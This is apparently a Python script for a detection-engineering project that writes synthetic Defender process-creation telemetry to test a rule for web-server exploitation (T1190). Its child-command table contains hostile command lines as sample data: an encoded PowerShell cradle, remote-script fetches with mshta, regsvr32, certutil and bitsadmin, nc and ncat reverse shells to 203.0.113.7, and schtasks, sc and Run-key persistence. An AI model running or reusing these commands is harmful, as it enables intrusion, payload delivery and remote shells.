"""Write the bundled sample telemetry (deterministic: same bytes on every run).

    python scripts/make_sample.py

Writes sentinel_t1190/data/sample/DeviceProcessEvents.csv and sample.json (the sample's own
clock, so an offline hunt on it finds the same events on any date). The sample holds every
parent and every child of the rule, all five ExploitEvidence labels, the near misses the rule
must ignore, the source document's five false-positive classes, and background noise.
"""

from __future__ import annotations

import csv
import hashlib
import json
import random
from datetime import UTC, datetime, timedelta
from pathlib import Path

from sentinel_t1190 import detection

OUT = Path(__file__).resolve().parent.parent / "sentinel_t1190" / "data" / "sample"
CLOCK = datetime(2026, 1, 15, 12, 0, tzinfo=UTC)
COLUMNS = (
    "Timestamp", "DeviceId", "DeviceName", "ActionType", "FileName", "FolderPath", "SHA256",
    "ProcessId", "ProcessCommandLine", "AccountDomain", "AccountName",
    "InitiatingProcessFileName", "InitiatingProcessId", "InitiatingProcessCommandLine",
    "InitiatingProcessFolderPath", "InitiatingProcessParentFileName",
    "InitiatingProcessAccountName", "ReportId",
)
PARENT_CMD = {
    "w3wp.exe": r'c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool" -v "v4.0"',
    "httpd.exe": r"C:\Apache24\bin\httpd.exe -d C:/Apache24",
    "nginx.exe": r"C:\nginx\nginx.exe",
    "apache2.exe": r"C:\apache2\bin\apache2.exe -k runservice",
    "java.exe": r"""C:\Program Files\Java\jre\bin\java.exe -Djava.util.logging.config.file=conf\logging.properties org.apache.catalina.startup.Bootstrap start""",
    "python.exe": r"C:\Python311\python.exe -m gunicorn app:app",
    "python3.exe": r"C:\Python311\python3.exe manage.py runserver 0.0.0.0:8000",
    "php.exe": r"C:\php\php.exe -S 0.0.0.0:8080",
    "php-cgi.exe": r"C:\php\php-cgi.exe -b 127.0.0.1:9000",
    "node.exe": r"C:\Program Files\nodejs\node.exe server.js",
    "ruby.exe": r"C:\Ruby32\bin\ruby.exe bin/rails server",
    "perl.exe": r"C:\Perl64\bin\perl.exe C:\inetpub\cgi-bin\index.pl",
    "tomcat9.exe": r"C:\Tomcat9\bin\tomcat9.exe //RS//Tomcat9",
    "tomcat8.exe": r"C:\Tomcat8\bin\tomcat8.exe //RS//Tomcat8",
    "ews.exe": r"C:\Program Files\Microsoft\Exchange Server\V15\bin\ews.exe",
    "umworkerprocess.exe": r"C:\Program Files\Microsoft\Exchange Server\V15\Bin\UMWorkerProcess.exe",
    "msexchangeservicehost.exe": r"C:\Program Files\Microsoft\Exchange Server\V15\Bin\Microsoft.Exchange.ServiceHost.exe",
    # Background noise parents.
    "svchost.exe": r"C:\Windows\System32\svchost.exe -k netsvcs -p",
    "services.exe": r"C:\Windows\System32\services.exe",
    "msiexec.exe": r"C:\Windows\System32\msiexec.exe /V",
    "explorer.exe": r"C:\Windows\explorer.exe",
    "chrome.exe": r"C:\Program Files\Google\Chrome\Application\chrome.exe",
}
CHILD_CMD = {
    "cmd.exe": r'cmd.exe /c "whoami & hostname"', "powershell.exe":
    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "pwsh.exe": "pwsh.exe -c Get-Process", "wscript.exe": r"wscript.exe C:\Windows\Temp\a.vbs",
    "cscript.exe": r"cscript.exe //nologo C:\Windows\Temp\b.js",
    "mshta.exe": "mshta.exe http://203.0.113.7/p.hta",
    "rundll32.exe": r"rundll32.exe C:\Windows\Temp\x.dll,Start",
    "regsvr32.exe": "regsvr32.exe /s /n /u /i:http://203.0.113.7/s.sct scrobj.dll",
    "certutil.exe": r"certutil.exe -urlcache -split -f http://203.0.113.7/n.exe C:\Windows\Temp\n.exe",
    "bitsadmin.exe": r"bitsadmin.exe /transfer j http://203.0.113.7/a.exe C:\Users\Public\a.exe",
    "curl.exe": "curl.exe -o c:\\users\\public\\s.aspx http://203.0.113.7/s.aspx",
    "wget.exe": "wget.exe http://203.0.113.7/tool.zip", "nc.exe": "nc.exe 203.0.113.7 4444 -e cmd.exe",
    "ncat.exe": "ncat.exe 203.0.113.7 443 --ssl -e cmd.exe", "net.exe": "net.exe user /domain",
    "net1.exe": "net1.exe localgroup administrators", "whoami.exe": "whoami.exe /all",
    "ipconfig.exe": "ipconfig.exe /all", "systeminfo.exe": "systeminfo.exe",
    "nltest.exe": "nltest.exe /dclist:corp", "ping.exe": "ping.exe -n 1 203.0.113.7",
    "nslookup.exe": "nslookup.exe attacker.example", "tasklist.exe": "tasklist.exe /v",
    "quser.exe": "quser.exe", "schtasks.exe": 'schtasks.exe /create /tn Upd /tr "C:\\Users\\Public\\a.exe" /sc minute',
    "at.exe": r"at.exe 23:00 C:\Users\Public\a.exe", "sc.exe": "sc.exe create upd binPath= C:\\Users\\Public\\a.exe",
    "reg.exe": r"reg.exe add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v upd /d C:\Users\Public\a.exe",
}
HOSTS = ("web-iis-01", "web-iis-02", "exch-01", "app-tomcat-01", "app-node-01", "lnx-web-01")

#: (parent, child, command line, account, host): benign activity the rule does flag; the
#: source document's five false-positive classes, to be tuned with exclusions.
FALSE_POSITIVES = (
    ("node.exe", "cmd.exe", 'cmd.exe /d /s /c "ffmpeg -i upload.mov -vf scale=640:-1 thumb.mp4"',
     "svc-node", "app-node-01"),
    ("w3wp.exe", "cmd.exe", r'cmd.exe /c "C:\deploy\msbuild.exe site.proj /t:Package"',
     "IIS APPPOOL\\Deploy", "web-iis-01"),
    ("msexchangeservicehost.exe", "powershell.exe",
     "powershell.exe -NonInteractive -Command Import-Module HybridConfigurationWizard; "
     "Update-HybridConfiguration", "SYSTEM", "exch-01"),
    ("java.exe", "cmd.exe", r'cmd.exe /c "C:\dynatrace\oneagent\agent\lib64\oneagentdiag.exe"',
     "svc-tomcat", "app-tomcat-01"),
    ("w3wp.exe", "powershell.exe",
     r"powershell.exe -File C:\Octopus\Tentacle\Work\Deploy.ps1", "IIS APPPOOL\\Octopus",
     "web-iis-02"),
)
#: (parent, child): look-alikes that in~ must not match.
NEAR_MISSES = (
    ("w3wp.exe", "powershell_ise.exe"), ("w3wp.exe", "cmd.exe "), ("w3wp.exe.bak", "cmd.exe"),
    ("explorer.exe", "cmd.exe"), ("java", "bash"), ("java.exe", "conhost.exe"),
    ("w3wp.exe", "csc.exe"), ("node.exe", "node.exe"), (" w3wp.exe", "whoami.exe"),
)
NOISE_PARENTS = ("explorer.exe", "services.exe", "svchost.exe", "msiexec.exe", "chrome.exe")
NOISE_CHILDREN = ("chrome.exe", "notepad.exe", "svchost.exe", "conhost.exe", "taskhostw.exe",
                  "msedge.exe", "OneDrive.exe", "cmd.exe", "powershell.exe")


def _kusto_time(moment: datetime) -> str:
    # Defender and Log Analytics write 7 fractional digits and a Z.
    return moment.strftime("%Y-%m-%dT%H:%M:%S.%f") + "0Z"


def _image_path(image: str) -> str:
    """Where the image lives, file name included (as Defender reports it), lower-cased."""
    command = PARENT_CMD.get(image.strip().lower(), "")
    at = command.lower().find(image.strip().lower())
    if at >= 0:
        return command[: at + len(image.strip())].lower()
    return f"c:\\program files\\app\\{image.strip().lower()}"


def build(rng: random.Random) -> list[dict[str, object]]:
    events: list[tuple[datetime, str, str, str, str, str]] = []

    def at(hours_back: float) -> datetime:
        return CLOCK - timedelta(seconds=int(hours_back * 3600) + rng.randint(0, 59),
                                 microseconds=rng.randint(0, 999_999))

    # Every parent at least once and every child at least once, inside the last 24 h.
    children = list(detection.SUSPICIOUS_CHILDREN)
    for i, parent in enumerate(detection.WEB_SERVER_PARENTS):
        child = children[i % len(children)]
        events.append((at(rng.uniform(0.5, 23)), parent, child, CHILD_CMD[child],
                       "IIS APPPOOL\\DefaultAppPool", rng.choice(HOSTS[:5])))
    for i, child in enumerate(children[len(detection.WEB_SERVER_PARENTS):]):
        parent = detection.WEB_SERVER_PARENTS[i]
        events.append((at(rng.uniform(0.5, 23)), parent, child, CHILD_CMD[child],
                       "IIS APPPOOL\\DefaultAppPool", rng.choice(HOSTS[:5])))
    # Case variants still match (in~ is case-insensitive).
    events.append((at(2), "W3WP.EXE", "CMD.EXE", "CMD.EXE /c ver", "IIS APPPOOL\\X", "web-iis-01"))
    events.append((at(3), "Java.exe", "PowerShell.exe", "PowerShell.exe -c id", "svc-tomcat",
                   "app-tomcat-01"))
    # Older than 24 h: found only by a longer --timespan.
    for days in (2, 3, 5):
        events.append((at(24 * days), "w3wp.exe", "whoami.exe", "whoami.exe", "IIS APPPOOL\\X",
                       "web-iis-02"))
    for parent, child, cmd, account, host in FALSE_POSITIVES:
        events.append((at(rng.uniform(1, 20)), parent, child, cmd, account, host))
    for parent, child in NEAR_MISSES:
        events.append((at(rng.uniform(1, 20)), parent, child, f"{child.strip()} /?", "svc-web",
                       "lnx-web-01" if parent == "java" else "web-iis-01"))
    for _ in range(400):
        parent, child = rng.choice(NOISE_PARENTS), rng.choice(NOISE_CHILDREN)
        events.append((at(rng.uniform(0, 30)), parent, child, child, "alice", rng.choice(HOSTS)))
    events.sort(key=lambda e: e[0])
    rows: list[dict[str, object]] = []
    for n, (moment, parent, child, cmd, account, host) in enumerate(events):
        domain, _, name = account.rpartition("\\")
        rows.append({
            "Timestamp": _kusto_time(moment),
            "DeviceId": hashlib.sha1(host.encode()).hexdigest(),
            "DeviceName": f"{host}.corp.example",
            "ActionType": "ProcessCreated",
            "FileName": child,
            "FolderPath": f"C:\\Windows\\System32\\{child.strip()}",
            "SHA256": hashlib.sha256(child.strip().lower().encode()).hexdigest(),
            "ProcessId": 4000 + n,
            "ProcessCommandLine": cmd,
            "AccountDomain": domain or "CORP",
            "AccountName": name,
            "InitiatingProcessFileName": parent,
            "InitiatingProcessId": 3000 + n,
            "InitiatingProcessCommandLine": PARENT_CMD.get(parent.strip().lower(), parent),
            "InitiatingProcessFolderPath": _image_path(parent),
            "InitiatingProcessParentFileName": "svchost.exe",
            "InitiatingProcessAccountName": name,
            "ReportId": 10_000 + n,
        })
    return rows


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    rows = build(random.Random(1190))
    with (OUT / "DeviceProcessEvents.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=COLUMNS, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    (OUT / "sample.json").write_text(json.dumps(
        {"clock": CLOCK.strftime("%Y-%m-%dT%H:%M:%SZ"), "rows": len(rows),
         "made_by": "scripts/make_sample.py"}, indent=2) + "\n", encoding="utf-8")
    print(f"wrote {len(rows)} rows to {OUT}")


if __name__ == "__main__":
    main()
